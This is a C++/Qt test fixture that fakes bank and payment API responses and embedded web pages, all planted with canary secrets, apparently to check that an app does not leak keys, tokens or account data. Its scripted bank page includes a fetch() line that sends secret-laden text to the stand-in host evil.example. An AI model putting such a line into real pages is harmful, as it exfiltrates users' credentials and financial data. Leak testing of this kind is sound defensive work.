// SPDX-License-Identifier: GPL-3.0-or-later
#include "gui/canary_world.h"

#include "gui/canary_plants.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>

using namespace Qt::StringLiterals;

namespace canary {

using namespace console;

namespace {

QString text(const char *name)
{
    return QString::fromUtf8(valueOf(name));
}

QByteArray compact(const QJsonObject &object)
{
    return QJsonDocument(object).toJson(QJsonDocument::Compact);
}

/// An object's text with the echo as its last fields.
QByteArray withEcho(const QJsonObject &object, const QByteArrayList &without = {})
{
    return compact(object).chopped(1) + ',' + CanaryWorld::echo(without) + '}';
}

QList<QNetworkReply::RawHeaderPair> headers()
{
    return {{"Content-Type", "application/json"}, {"Set-Cookie", "sid=" + valueOf("cookie") + "; HttpOnly"}, {"X-Webhook-Signature", "sha256=" + valueOf("signature")},
            {"Location", "https://bank.example/cb?code=" + valueOf("oauth code") + "&key=" + valueOf("api key").toPercentEncoding()},
            {"X-Person", valueOf("e-mail") + ' ' + valueOf("phone")}, {"X-Echo", valueOf("api secret").toBase64()}};
}

support::FakeAnswer answer(const QByteArray &body, int status = 200)
{
    return {.status = status, .body = body, .headers = headers()};
}

QByteArray refusal(const char *code)
{
    return withEcho({{u"error"_s, QJsonObject{{u"code"_s, QLatin1StringView(code)}, {u"message"_s, QString::fromUtf8(CanaryWorld::sentence())}}}});
}

} // namespace

QByteArray CanaryWorld::sentence(const QByteArrayList &without)
{
    QByteArray said = "Key " + valueOf("api key") + " (secret " + valueOf("api secret") + ", pay " + valueOf("aeropay secret") + ") is refused, token " + valueOf("aeropay token") + ", "
        + valueOf("prefixed key") + ", see https://bank.example/cb?code=" + valueOf("oauth code") + " for " + valueOf("name") + " / ZEBULON QUILLFEATHER, "
        + valueOf("e-mail") + ", (312) 555-7194";
    for (const char *name : {"account number", "routing number", "address", "address 2"})
        said += without.contains(name) ? QByteArray() : ", " + valueOf(name);
    return said;
}

QByteArray CanaryWorld::echo(const QByteArrayList &without)
{
    QByteArray fields;
    int number = 0;
    for (const Plant &plant : plants()) {
        if (!plant.learned || without.contains(plant.name))
            continue;
        for (const Spelling &spelling : spellings(plant.value)) {
            if (spelling.isJson)
                fields += "\"x" + QByteArray::number(++number) + "\":\"a " + spelling.text + " b\",";
        }
    }
    return fields.chopped(1);
}

CanaryWorld::CanaryWorld()
{
    scriptPeople();
    scriptData();
    scriptWidget();
    scriptJobs("COMPLETED", notBeforeIdentity);
    session.simulatorReady(compact({{u"api"_s, u"http://127.0.0.1:1"_s}, {u"aeropay"_s, u"http://127.0.0.1:1/pay"_s}, {u"widget"_s, widget.origin().toString()},
                                    {u"hostOrigin"_s, u"https://integrator.example"_s}, {u"apiKey"_s, text("api key")}, {u"apiSecret"_s, text("api secret")},
                                    {u"aeropayApiKey"_s, text("aeropay key")}, {u"aeropayApiSecret"_s, text("aeropay secret")}, {u"merchantId"_s, u"1456"_s}}));
    PollRule rule;
    rule.plan = [](JobKind, const QString &) { return PollPlan::fixed(std::chrono::milliseconds(20), std::chrono::milliseconds(20)); };
    rule.interval = rule.awaitingPerson = rule.conflict = std::chrono::milliseconds(20);
    session.jobs()->setRule(rule);
}

void CanaryWorld::scriptPeople()
{
    network.on("POST /v2/token", answer(compact({{u"status"_s, u"success"_s}, {u"statusCode"_s, 200}, {u"TTL"_s, u"1800"_s}, {u"token"_s, text("api token")}})));
    network.on("POST /pay/v2/token", answer(compact({{u"TTL"_s, 1800}, {u"token"_s, text("aeropay token")}})));
    network.on("POST /v2/token_widget", answer(compact({{u"status"_s, u"success"_s}, {u"statusCode"_s, 200}, {u"token"_s, text("widget token")}, {u"userId"_s, u"user-77"_s}})));
    const QString uuid = u"3f0c9c1e-2b7a-4d51-9a3e-0f6f2d9191ab"_s;
    const QJsonObject user{{u"id"_s, uuid}, {u"firstName"_s, u"Zebulon"_s}, {u"lastName"_s, u"Quillfeather"_s}, {u"email"_s, text("e-mail")}, {u"phoneNumber"_s, text("phone")}};
    network.on("POST /pay/v2/user", answer(compact({{u"user"_s, user}, {u"mfaType"_s, u"sms to (312) 555-7194"_s}})));
    network.on("POST /pay/v2/confirmUser", answer(compact({{u"error"_s, QJsonObject{{u"code"_s, u"AP300"_s}, {u"message"_s, u"The code "_s + text("one-time code") + u" is wrong"_s}}}})));
    network.on("POST /pay/v2/confirmUser", answer(withEcho({{u"user"_s, user}}, notBeforeToken)));
    network.on("GET /v2/users/*/connections", answer(withEcho({{u"connections"_s, QJsonArray{QJsonObject{{u"connectionId"_s, connectionId}, {u"bankName"_s, u"Harbour Bank"_s},
                                                                                                          {u"accountNumberDisplay"_s, u"4652"_s}, {u"note"_s, text("name")}}}}}, QByteArrayList{"widget token"} + notBeforeLink)));
}

void CanaryWorld::scriptData()
{
    const QString said = QString::fromUtf8(sentence());
    const QJsonObject account{{u"accountNickname"_s, u"Everyday of ZEBULON QUILLFEATHER"_s}, {u"accountNumber"_s, text("account number")}, {u"routingNumber"_s, text("routing number")},
                              {u"accountNumberDisplay"_s, u"4652"_s}, {u"accountType"_s, u"CHECKING"_s}, {u"bankName"_s, u"Harbour Bank"_s}, {u"connectionStatus"_s, u"CONNECTED"_s},
                              {u"note"_s, QString::fromUtf8(sentence(notBeforeIdentity))}, {u"number"_s, 7781934652.0}, {u"memo"_s, u"for 0007781934652"_s}};
    network.on("GET /v2/accounts/*", answer(withEcho({{u"status"_s, u"success"_s}, {u"statusCode"_s, 200}, {u"account"_s, account}}, notBeforeIdentity)));
    network.on("GET /v2/accounts/*/balance", answer(withEcho({{u"status"_s, u"success"_s}, {u"statusCode"_s, 200},
        {u"account"_s, QJsonObject{{u"availableBalance"_s, 1840.5}, {u"currentBalance"_s, 1902.07}, {u"currency"_s, u"USD"_s}, {u"bankName"_s, u"Harbour Bank"_s},
                                   {u"lastRefreshTimeStamp"_s, u"2026-05-17 18:07:25.815355"_s}, {u"note"_s, said}}}})));
    QJsonArray rows;
    for (int i = 0; i < 12; ++i) {
        const QStringList descriptions{u"PAYROLL NORTHWIND ZEBULON QUILLFEATHER"_s, u"Zelle to Zebulon Quillfeather 312-555-7194"_s, u"Transfer to 0007781934652"_s, u"Corner Shop"_s};
        rows << QJsonObject{{u"id"_s, u"TRN-%1"_s.arg(i)}, {u"type"_s, u"DEBIT"_s}, {u"date"_s, u"2026-05-1%1T12:00:00Z"_s.arg(i % 8)}, {u"amount"_s, 4.5 + i}, {u"currency"_s, u"USD"_s},
                            {u"description"_s, descriptions.at(i % 4)}, {u"category"_s, u"Food and Dining"_s}, {u"merchant"_s, said}};
    }
    const QByteArray transactions = withEcho({{u"status"_s, u"success"_s}, {u"statusCode"_s, 200}, {u"transactions"_s, rows}});
    network.on("GET /v2/accounts/*/transactions", answer(transactions));
    network.on("GET /v2/users/*/connections/*/transactions", answer(transactions));
    network.on("GET /v2/accounts/*/identity", answer(withEcho({{u"status"_s, u"success"_s}, {u"statusCode"_s, 200},
        {u"identity"_s, QJsonObject{{u"accountHolderName"_s, u"ZEBULON QUILLFEATHER"_s}, {u"address"_s, text("address") + u", "_s + text("address 2")},
            {u"address_fields"_s, QJsonObject{{u"address1"_s, text("address")}, {u"address2"_s, text("address 2")}, {u"city"_s, u"Portland"_s}, {u"state"_s, u"OR"_s}}},
            {u"email"_s, text("e-mail")}, {u"phone"_s, u"(312) 555-7194"_s}, {u"bankName"_s, u"Harbour Bank"_s}, {u"note"_s, said}}}})));
}

void CanaryWorld::scriptJobs(const QByteArray &jobStatus, const QByteArrayList &without)
{
    const QByteArray started = withEcho({{u"status"_s, u"success"_s}, {u"statusCode"_s, 200}, {u"identityStatus"_s, u"Initiated"_s}, {u"jobId"_s, u"REF-0a1b2c3d4e5f60718293a4b5c6d7e8f9"_s}}, without);
    for (const char *path : {"POST /v2/accounts/*/refresh", "POST /v2/accounts/*/transactions", "POST /v2/accounts/*/identity"}) {
        network.forget(path);
        network.on(path, answer(started));
    }
    network.forget("GET /v2/accounts/*/job/*");
    network.on("GET /v2/accounts/*/job/*", answer(withEcho({{u"status"_s, u"success"_s}, {u"statusCode"_s, 200}, {u"jobStatus"_s, QString::fromLatin1(jobStatus)}, {u"mfaTriggered"_s, false},
        {u"jobId"_s, u"REF-0a1b2c3d4e5f60718293a4b5c6d7e8f9"_s}, {u"message"_s, QString::fromUtf8(sentence(without))}, {u"reason"_s, QString::fromUtf8(sentence(without))}}, without)));
}

void CanaryWorld::scriptErrors()
{
    for (const char *path : {"GET /v2/accounts/*", "GET /v2/accounts/*/balance", "GET /v2/accounts/*/transactions", "GET /v2/users/*/connections/*/transactions", "GET /v2/accounts/*/identity"}) {
        network.forget(path);
        network.on(path, answer(refusal("AC-500"), 200));
    }
    network.forget("POST /v2/accounts/*/refresh");
    network.on("POST /v2/accounts/*/refresh", answer(refusal("AC-104"), 400));
    network.forget("POST /v2/accounts/*/identity");
    network.on("POST /v2/accounts/*/identity", answer("<html>" + sentence() + "</html>", 502));
    network.forget("POST /v2/token_widget");
    network.on("POST /v2/token_widget", answer(refusal("AC-101"), 401));
}

void CanaryWorld::forgetErrors()
{
    for (const char *path : {"GET /v2/accounts/*", "GET /v2/accounts/*/balance", "GET /v2/accounts/*/transactions", "GET /v2/users/*/connections/*/transactions", "GET /v2/accounts/*/identity"})
        network.forget(path);
    scriptData();
    scriptJobs("COMPLETED");
}

/// What the page says itself: on its console, to its host, in its addresses.
void CanaryWorld::scriptWidget()
{
    const QByteArray said = compact({{u"t"_s, QString::fromUtf8(sentence(notBeforeLink))}});
    const QByteArray more = '{' + echo(notBeforeLink) + '}';
    widget.setScript(QString::fromUtf8("const said = " + said + ".t; const more = " + more + R"(;
        console.log(said); console.warn(JSON.stringify(more)); console.error('token ' + new URLSearchParams(location.search).get('token'));
        post('widgetPageLoaded', { pageTitle: said, onLoadApi: 'https://bank.example/cb?code=)" + valueOf("oauth code") + R"(&x=' + encodeURIComponent(said) });
        post('no such type ' + said, more); host.postMessage({ type: 'pageSuccess', payload: said }, '*');
        post('widgetError', 'INCORRECT_CREDENTIALS | Code: AC-117 | Message: ' + said);
        setTimeout(() => { throw new Error(said); }, 0); fetch('/missing?why=' + encodeURIComponent(said));
        const button = (text, pressed) => { const made = document.createElement('button'); made.textContent = text; made.onclick = pressed; document.body.prepend(made); };
        const bank = ')" + bankAddress().toEncoded() + R"(';
        button('Bank login', () => window.open(bank, 'bank', 'width=400,height=700'));
        button('Bank by hand', () => post('widgetPageLoaded', { pageTitle: 'launchExternalWindow', onLoadApi: bank }));
        button('Bank that is away', () => window.open('http://127.0.0.1:1/cb?code=)" + valueOf("oauth code") + R"(', 'away'));
        button('Ask', () => post('widgetPageLoaded', { pageTitle: 'Security question: ' + said, onLoadApi: '' }));
        button('Answered', () => post('pageSuccess', Object.assign({}, success, { connectionId: ')" + connectionId.toLatin1() + R"(', message: said })));
        addEventListener('message', told => post('told by the bank', told.data));)"));
    scriptBank();
}

QUrl CanaryWorld::bankAddress() const
{
    return QUrl(widget.otherOrigin().toString() + u"/bank?state=s-1&code=%1&login_hint=%2#name=%3"_s
        .arg(text("oauth code"), QString::fromLatin1(valueOf("e-mail").toPercentEncoding()), QString::fromLatin1(valueOf("name").toPercentEncoding())));
}

/// The bank's own page says who its customer is, as it may; it also says so on its console, in dialogs, in addresses, to its opener.
void CanaryWorld::scriptBank()
{
    const QByteArray said = compact({{u"t"_s, QString::fromUtf8(sentence(notBeforeLink))}});
    widget.setPage(u"/bank"_s, {.body = "<!doctype html><meta charset=utf-8><h1>Bank</h1><label>Answer <input name=answer></label><script>const said = " + said + R"(.t;
        document.title = said; document.querySelector('h1').textContent = said; console.log('at ' + location.href); console.error(said);
        alert(said); confirm(said); prompt(said, said);
        opener && opener.postMessage(JSON.stringify({ href: location.href, said, code: new URLSearchParams(location.search).get('code') }), '*');
        fetch('https://evil.example/?t=' + encodeURIComponent(said));
        const link = (name, href, download) => { const made = document.createElement('a'); made.textContent = name; made.href = href;
            if (download) made.download = download; document.body.append(made, ' '); };
        link('Statement', 'data:text/plain,x', 'Statement of )" + valueOf("name") + R"(.txt');
        link('Elsewhere', 'other://' + encodeURIComponent(said) + '?code=)" + valueOf("oauth code") + R"(');
        link('Back', 'aerosync://bank-link?status=error&AC_CODE=AC-117&code=)" + valueOf("oauth code") + R"(&description=' + encodeURIComponent(said));</script>)"});
}

} // namespace canary
